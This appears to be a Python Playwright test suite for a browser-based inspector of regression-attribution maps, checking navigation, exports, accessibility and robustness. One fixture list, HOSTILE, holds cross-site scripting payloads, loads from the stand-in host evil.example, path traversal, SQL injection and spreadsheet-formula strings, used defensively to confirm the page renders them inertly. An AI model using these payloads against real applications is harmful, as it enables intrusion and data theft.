"""The page in a real browser: what an engineer clicks, brushes, paints, hears and takes away; and who cannot see it."""

from __future__ import annotations

import contextlib
import csv
import itertools
import json
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import replace
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest

import ram
from ram.data.layout import write_dataset
from ram.data.spec import DatasetSpec, Record
from ram.inspector.frames import frame, unframed
from ram.inspector.server import Server

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install -e '.[dev]'")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt-get install chromium"),
    pytest.mark.skipif(sys.platform == "win32", reason="the server is ended by a signal that Windows lacks"),
]
Serve = Callable[..., AbstractContextManager[Server]]
SIMULATOR = """
def simulate(x, coordinates):
    if x[1].max() > 400:
        raise ValueError("too thick to be solved <b>")
    return {"umbrella": 400.0 + x[1].mean(), "other": 1.0}
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


@pytest.fixture(scope="module")
def address(disc_run: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The page as the command serves it; Ctrl-C ends it cleanly."""
    simulator = tmp_path_factory.mktemp("solver") / "solver.py"
    simulator.write_text(SIMULATOR, encoding="utf-8")
    words = ["inspect", str(disc_run), "--no-browser", "--json", "--simulator", f"{simulator}:simulate"]
    command = [sys.executable, "-m", "ram", *words]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        said = ""
        while not said.endswith("}\n"):
            line = process.stdout.readline()
            assert line, process.communicate()
            said += line
        found = json.loads(said)
        assert re.fullmatch(rf"http://127\.0\.0\.1:{found['port']}/#[\w-]{{43}}", found["address"])
        yield found["address"]
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=30)
    assert (process.returncode, err) == (0, "")


@pytest.fixture
def visit(browser: Any) -> Iterator[Callable[..., Any]]:
    """Open pages, each for a user of its own; none of them may write an error to the console."""
    contexts, wrong = [], []

    def opened(address: str, *, width: int = 1280, scheme: str = "light", ready: bool = True) -> Any:
        context = browser.new_context(
            viewport={"width": width, "height": 900}, color_scheme=scheme, reduced_motion="reduce"
        )
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("dialog", lambda dialog: wrong.append(f"dialog: {dialog.message}"))
        page.goto(address)
        if ready:
            page.locator("#map-title:not(:empty)").wait_for()
        return page

    yield opened
    for context in contexts:
        context.close()
    assert wrong == []


def drag(page: Any, canvas: str, begin: tuple[float, float], end: tuple[float, float]) -> None:
    """Draw with the mouse, from one share of a canvas to another."""
    place = page.locator(canvas)
    place.scroll_into_view_if_needed()
    box = place.bounding_box()
    first, last = ((box["x"] + x * box["width"], box["y"] + y * box["height"]) for x, y in (begin, end))
    page.mouse.move(*first)
    page.mouse.down()
    page.mouse.move(*last, steps=4)
    page.mouse.up()


def text(page: Any, place: str) -> str:
    return str(page.locator(place).inner_text())


def wait(page: Any, place: str, words: str) -> None:
    page.locator(place).filter(has_text=re.compile(words)).first.wait_for()


def number(said: str) -> float:
    """``"+7.3 Hz of ..."`` -> 7.3."""
    found = re.match(r"[+−]?[\d.]+", said)
    assert found, said
    return float(found[0].replace("−", "-"))


INPUT, MAP = "#pictures figure:nth-child(1) canvas", "#pictures figure:nth-child(2) canvas"


def test_a_run_is_seen_walked_and_filtered(visit: Callable[..., Any], address: str) -> None:
    page = visit(address)
    assert page.url.endswith("/")  # the key is out of the address
    assert re.match(r"umbrella [\d.]+ Hz = mean design [\d.]+ Hz [+-] [\d.]+ Hz \(ram, exact", text(page, "#map-title"))
    first = text(page, "#sample-title")
    page.keyboard.press("ArrowRight")
    wait(page, "#sample-title", r"^(?!" + first + r"$)d\d+$")
    page.keyboard.press("ArrowLeft")
    wait(page, "#sample-title", f"^{first}$")
    page.focus("#list")
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("End")
    wait(page, "#sample-title", "^d029$")
    for share in range(2, 30):  # some point of the scatter lies under one of these
        box = page.locator("#scatter").bounding_box()
        page.mouse.click(box["x"] + 54 + share * (box["width"] - 66) / 30, box["y"] + 268 - share * 256 / 30)
        if text(page, "#sample-title") != "d029":
            break
    assert text(page, "#sample-title") != "d029"
    page.click("#filter-box summary")
    page.fill("#filter-id", "d01")
    wait(page, "#scatter-title", "10 of 30 samples")
    page.select_option("#filter-part", "test")
    wait(page, "#scatter-title", "2 of 30 samples")
    assert page.locator("#list [role=option]").count() == 2
    page.click("#filters button")
    page.select_option("#order", "error")
    errors = [abs(number(one)) for one in page.locator("#list [role=option] span:last-child").all_inner_texts()]
    assert errors == sorted(errors, reverse=True)
    page.select_option("#target", "mass")
    wait(page, "#map-title", "^mass [0-9.]+ kg")
    page.reload()  # the key is kept as long as the tab is open
    wait(page, "#map-title", "umbrella")


def test_a_frame_says_what_it_carries(visit: Callable[..., Any], address: str, disc_run: Path) -> None:
    page = visit(address)
    drag(page, MAP, (0.4, 0.25), (0.75, 0.5))
    wait(page, "#region-said", r"Hz of .* from x .*mm, y .*mm")
    ends = [float(page.locator("#region input").nth(place).input_value()) for place in range(4)]
    run = ram.open_run(disc_run)
    data = run.data()
    (row,) = np.flatnonzero(data.ids == text(page, "#sample-title"))
    maps = run.explain(data[[row]], target="umbrella", reference=data.reference_design())
    carried = maps.within(x=(ends[0], ends[1]), y=(ends[2], ends[3]))[0]
    assert number(text(page, "#region-said")) == pytest.approx(carried, abs=0.06)
    page.fill("#region input >> nth=0", "-80")
    page.fill("#region input >> nth=1", "80")
    page.fill("#region input >> nth=2", "-80")
    page.fill("#region input >> nth=3", "80")
    page.keyboard.press("Enter")
    wait(page, "#region-said", "x −80 to 80 mm, y −80 to 80 mm")
    said = text(page, "#region-said").split(" of ")
    assert number(said[0]) == number(said[1])
    page.locator("#panel-regions button").first.click()  # a box that carries much
    wait(page, "#region-said", r"from x (?!−80 to 80)")


def test_samples_and_cohorts_are_compared(visit: Callable[..., Any], address: str) -> None:
    page = visit(address)
    page.click("#tab-compare")
    page.click("#panel-compare button")
    page.click("#next")
    wait(page, "#panel-compare .number", r"umbrella: d\d+ is ([\d.]+\sHz (higher|lower) than|as high as) d\d+")
    a, b, gap = (number(one) for one in page.locator("#panel-compare tbody tr >> nth=1 >> td").all_inner_texts()[:3])
    assert gap == pytest.approx(b - a, abs=0.21)
    drag(page, "#scatter", (0.3, 0.3), (0.8, 0.8))
    page.click("#tab-cohort")
    wait(page, "#panel-cohort .number", r"umbrella: the cohort is")
    wait(page, "#panel-cohort figcaption", r"Cohort: \d+")
    assert page.locator("#panel-cohort table").count() >= 2


def test_paint_moves_the_net_and_physics_answers(visit: Callable[..., Any], address: str) -> None:
    page, beside = visit(address), visit(address)
    before = text(page, "#map-title")
    page.click("#tab-whatif")
    value = page.locator("#panel-whatif input[type=number]").first
    value.fill("60")
    drag(page, INPUT, (0.45, 0.25), (0.65, 0.4))
    wait(page, "#sample-title", ", edited$")
    wait(page, "#panel-whatif .number", r"umbrella: [+−][\d.]+\sHz by the net")
    assert text(page, "#map-title") != before
    page.click("text=Ask the solver")
    wait(page, "#panel-whatif th", "solver: change")
    row = page.locator("#panel-whatif tbody tr").first.locator("td").all_inner_texts()
    assert number(row[4]) - number(row[3]) == pytest.approx(number(row[5]), abs=0.11)
    assert page.locator("#panel-whatif tbody tr").nth(1).locator("td").all_inner_texts()[3:] == ["–"] * 4
    value.fill("900")
    drag(page, INPUT, (0.45, 0.3), (0.5, 0.3))
    page.locator("#panel-whatif button:has-text('Undo'):enabled").wait_for()
    page.click("text=Ask the solver")
    wait(page, "#panel-whatif .message", "too thick to be solved <b>")
    page.click("text=Start over")
    wait(page, "#map-title", re.escape(before))
    beside.click("#next")  # another user has seen nothing of it
    beside.click("#previous")
    wait(beside, "#map-title", re.escape(before))
    assert "edited" not in text(beside, "#sample-title")


def test_maps_are_taken_away(visit: Callable[..., Any], address: str, disc_run: Path, tmp_path: Path) -> None:
    page = visit(address)
    page.click("#tab-files")
    taken = {}
    for button in ("PNG picture", "CSV table", "HDF5", "CSV of"):
        with page.expect_download() as download:
            page.click(f"#panel-files button:has-text('{button}')")
        taken[button] = tmp_path / download.value.suggested_filename
        download.value.save_as(taken[button])
    maps = ram.RegressionMap.load(taken["HDF5"]) if hasattr(ram, "RegressionMap") else None
    with taken["CSV table"].open(encoding="utf-8") as file:
        cells = [float(row["contribution_Hz"]) for row in csv.DictReader(file)]
    with h5py.File(taken["HDF5"]) as file:
        assert file["umbrella/contributions"][()].ravel().tolist() == cells
    assert maps is None or maps.ids == (text(page, "#sample-title"),)
    assert taken["PNG picture"].read_bytes().startswith(b"\x89PNG")
    with taken["CSV of"].open(encoding="utf-8") as file:
        assert len(list(csv.DictReader(file))) == 30


def test_methods_are_chosen_and_refusals_stand_in_their_place(visit: Callable[..., Any], address: str) -> None:
    page = visit(address)
    page.select_option("#choices label:has-text('Compared with') select", "")
    page.select_option("#choices label:has-text('Method') select", "grad-cam")
    wait(page, "#map-title", r"\(grad-cam, relative")
    page.select_option("#choices label:has-text('Method') select", "gradient")
    wait(page, "#message", "channel must be given")
    page.select_option("#choices label:has-text('Map of channel') select", "thickness")
    wait(page, "#map-title", r"\(gradient, sensitivity")
    assert page.locator("#message").is_hidden()
    page.select_option("#choices label:has-text('Method') select", "ram")
    page.select_option("#choices label:has-text('Compared with') select", "baseline")
    wait(page, "#map-title", "= baseline")
    page.select_option("#choices label:has-text('Colours') select", "own")


def test_a_spectrogram_is_muted_and_heard(visit: Callable[..., Any], serve: Serve, burst_run: Path) -> None:
    with serve(burst_run) as server:
        page = visit(server.address)
        drag(page, MAP, (0.3, 0.1), (0.6, 0.3))
        wait(page, "#region-said", r"Hz of .* from .*(m?s), .*kHz")
        page.click("#tab-whatif")
        page.click("text=Mute the region")
        wait(page, "#sample-title", ", edited$")
        page.click("text=Undo")
        wait(page, "#sample-title", r"^s\d+$")
        page.click("#tab-sound")
        page.locator("audio").nth(2).wait_for()
        lasting = "Promise.all([...document.querySelectorAll('audio')].map((one) => new Promise((done) => { \
            if (one.readyState) done(one.duration); else one.onloadedmetadata = () => done(one.duration); })))"
        assert page.evaluate(lasting) == pytest.approx([512 / 16_000] * 3, rel=1e-3)


def test_it_is_usable_without_a_mouse_and_for_screen_readers(visit: Callable[..., Any], address: str) -> None:
    import axe_playwright_python

    script = (Path(axe_playwright_python.__file__).parent / "axe.min.js").read_text(encoding="utf-8")
    for width, scheme in ((1280, "light"), (390, "dark")):
        page = visit(address, width=width, scheme=scheme)
        page.evaluate(script)
        page.click("#filter-box summary")
        for tab in page.locator("[role=tab]").all()[:: 1 if width > 400 else 3]:
            tab.click()
            page.wait_for_timeout(50)
            found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")["violations"]
            serious = [one for one in found if one["impact"] in ("serious", "critical")]
            assert [(one["id"], [node["html"] for node in one["nodes"]]) for one in serious] == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_nothing_is_seen_without_the_key(visit: Callable[..., Any], serve: Serve, disc_run: Path) -> None:
    with serve(disc_run) as server:
        page = visit(server.address.split("#", maxsplit=1)[0], ready=False)
        wait(page, "#closed", "Open the address that 'ram inspect' printed")
        assert page.locator("#page").is_hidden()
        ticket = visit(f"{server.address.split('#', maxsplit=1)[0]}#{server.keys.ticket}")
        assert ticket.locator("#page").is_visible()


def test_a_broken_sample_says_so_in_its_place(
    visit: Callable[..., Any], serve: Serve, disc_run: Path, disc_folder: Path, tmp_path: Path
) -> None:
    shutil.copy(disc_folder / "discs.h5", tmp_path / "discs.h5")
    shutil.copytree(disc_run, tmp_path / "run")
    config = tmp_path / "run" / "config.toml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(str(disc_folder / "discs.h5"), str(tmp_path / "discs.h5")), "utf-8"
    )
    with h5py.File(tmp_path / "discs.h5") as file:
        place = file["inputs"].id.get_offset() + 2 * file["inputs"][0].nbytes + 5
    content = bytearray((tmp_path / "discs.h5").read_bytes())
    content[place] ^= 64
    (tmp_path / "discs.h5").write_bytes(content)
    with serve(tmp_path / "run") as server:
        page = visit(server.address)
        page.click("#list [role=option]:has-text('d002')")
        wait(page, "#message", "row 2: the values must be those that were written")
        assert page.locator("#pictures figure").first.is_hidden()
        page.click("#list [role=option]:has-text('d001')")
        wait(page, "#map-title", "umbrella")
        assert page.locator("#message").is_hidden()


HOSTILE = [
    "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "\"><script>pwned()</script>",
    "'><img src=x onerror=pwned()>", "javascript:pwned()", "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<a href=javascript:pwned()>x</a>", "</title><script>pwned()</script>", "</style><script>pwned()</script>",
    "<body onload=pwned()>", "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>",
    "<math><mtext></p><script>pwned()</script>", "{{constructor.constructor('pwned()')()}}", "${pwned()}",
    "`${pwned()}`", "#{pwned()}", "<%= pwned() %>", "{% import os %}",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;", "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<form action=//evil.example><button>x",
    "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>", "<marquee onstart=pwned()>",
    "<style>*{display:none}</style>", "x' onmouseover='pwned()", "x\" onfocus=\"pwned()\" autofocus=\"",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con", "a/b?c=d#e", "file:///etc/passwd",
    "__proto__", "constructor", "=HYPERLINK(\"//evil.example\")", "'; DROP TABLE samples; --", "\u202egnp.exe",
    "a\u0301\u0301\u0301", "\N{WARNING SIGN}\N{VARIATION SELECTOR-16} \u200b zero",
]  # fmt: skip


@pytest.mark.slow
def test_hostile_names_are_names(
    visit: Callable[..., Any], serve: Serve, discs_in: Callable[..., Path], tmp_path: Path
) -> None:
    assert len(HOSTILE) >= 50
    names = iter(HOSTILE)

    def renamed(record: Record) -> Record:
        name = next(names)
        return replace(record, id=name, group=f"{name} {record.group}")

    config = discs_in(tmp_path, renamed, count=len(HOSTILE), name=HOSTILE[0])
    run = ram.train(config, output=tmp_path / "run", progress=False)
    with serve(run.path) as server:
        page = visit(server.address)
        page.evaluate("() => { window.through = 0; window.pwned = () => { window.through += 1; }; }")
        seen = []
        for _ in HOSTILE:
            place = page.locator("#sample-title")
            seen.append(place.text_content())
            page.click("#next")
            if len(seen) < len(HOSTILE):
                wait_for_other(page, seen[-1])
        assert sorted(seen) == sorted(HOSTILE)
        for tab in page.locator("[role=tab]").all():
            tab.click()
        page.click("#tab-compare")
        page.click("#panel-compare button")
        page.click("#previous")
        wait(page, "#panel-compare .number", "than|as high as")
        page.click("#tab-files")
        with page.expect_download() as download:
            page.click("#panel-files button:has-text('CSV table')")
        assert not set('/\\<>:"|?*') & set(download.value.suggested_filename)
        assert page.evaluate("window.through") == 0
        assert page.locator(STRANGE).count() == 0


STRANGE = "#page iframe, #page img, #page object, #page embed, #page script, #page a, #page svg, #page form[action]"


def test_hostile_words_of_an_answer_are_words(visit: Callable[..., Any], address: str) -> None:
    """Names of channels and targets are checked when a file is written, yet a page trusts no answer to be so."""
    words = itertools.cycle(HOSTILE)

    def spoiled(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {name: spoiled(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [spoiled(one, key) for one in value]
        shown = (
            "title", "label", "unit", "said", "where", "carried", "summary", "physics", "predicted", "interval", "id",
            "file", "run", "measured", "layers", "error", "grade",
        )  # fmt: skip
        return next(words) if isinstance(value, str) and key in shown else value

    def spoil(route: Any) -> None:
        head, arrays = unframed(route.fetch().body())
        route.fulfill(status=200, content_type="application/octet-stream", body=frame(spoiled(head), arrays))

    page = visit("about:blank", ready=False)
    for kind in ("run", "map", "within", "comparison", "column"):
        page.route(f"**/api/{kind}", spoil)
    page.add_init_script("window.through = 0; window.pwned = () => { window.through += 1; };")
    page.goto(address)
    page.locator("#map-title:not(:empty)").wait_for()
    drag(page, MAP, (0.4, 0.25), (0.75, 0.5))
    page.click("#tab-compare")
    page.click("#panel-compare button")
    for tab in page.locator("[role=tab]").all():
        tab.click()
        page.click("#next")
        page.wait_for_timeout(100)
    assert page.evaluate("window.through") == 0
    assert page.locator(STRANGE).count() == 0
    page.unroute_all(behavior="wait")


@pytest.mark.slow
def test_a_thousand_clicks_leave_nothing_behind(visit: Callable[..., Any], address: str, disc_run: Path) -> None:
    if not Path("/proc").is_dir():
        pytest.skip("no /proc on this system: the memory of a process is not told")
    port = int(address.split(":")[2].split("/", maxsplit=1)[0])
    page = visit(address)

    def walk(times: int) -> None:
        for number in range(times):
            before = text(page, "#sample-title")
            page.click("#next" if number % 56 < 28 else "#previous")
            wait_for_other(page, before)

    walk(112)
    before = resident_mb(port)
    walk(1008)
    assert resident_mb(port) - before < 50


def resident_mb(port: int) -> float:
    """Return the memory of the process that listens on a port."""
    (inode,) = {
        line.split()[9]
        for line in Path("/proc/net/tcp").read_text(encoding="ascii").splitlines()
        if line.split()[1].endswith(f":{port:04X}") and line.split()[3] == "0A"
    }
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if any(str(one.readlink()) == f"socket:[{inode}]" for one in (process / "fd").iterdir()):
                return int((process / "statm").read_text(encoding="ascii").split()[1]) * 4096 / 2**20
    raise AssertionError("nobody listens there")


@pytest.mark.slow
def test_a_hundred_thousand_samples_are_as_easy_to_walk(
    visit: Callable[..., Any], serve: Serve, disc_run: Path, disc_folder: Path, tmp_path: Path
) -> None:
    count = 100_000
    draw = np.random.default_rng(3)

    def many() -> Iterator[Record]:
        whole = draw.normal(20.0, 3.0, (count, 2, 1, 1)).astype(np.float32) * np.ones((1, 16, 16), np.float32)
        whole[:, 0] = 1.0
        for number in range(count):
            targets = {"umbrella": 500.0, "mass": float(whole[number, 1, 0, 0])}
            yield Record(id=f"n{number}", x=whole[number], targets=targets, split={"default": "test"})

    data = ram.open_dataset(disc_folder / "discs.h5")
    spec = DatasetSpec(name="many", axes=data.axes, channels=data.channels, targets=data.targets, count=count)
    write_dataset(tmp_path / "many.h5", spec, many())
    with serve(disc_run, tmp_path / "many.h5") as server:
        page = visit(server.address)
        assert "100,000 of 100,000 samples" in text(page, "#scatter-title")
        assert page.locator("#list [role=option]").count() < 50
        page.focus("#list")
        page.keyboard.press("End")
        wait(page, "#sample-title", "^n99999$")
        page.click("#filter-box summary")
        page.fill("#filter-id", "n777")
        wait(page, "#scatter-title", "111 of 100,000 samples")
        page.click("#cohort-of-filtered")
        wait(page, "#panel-cohort .number", "the cohort is")
        wait(page, "#panel-cohort figcaption", r"The rest: 99,889 \(maps of 128\)")


def wait_for_other(page: Any, name: str) -> None:
    """Wait until another sample than `name` is shown."""
    sync_api.expect(page.locator("#sample-title")).not_to_have_text(name, use_inner_text=False)
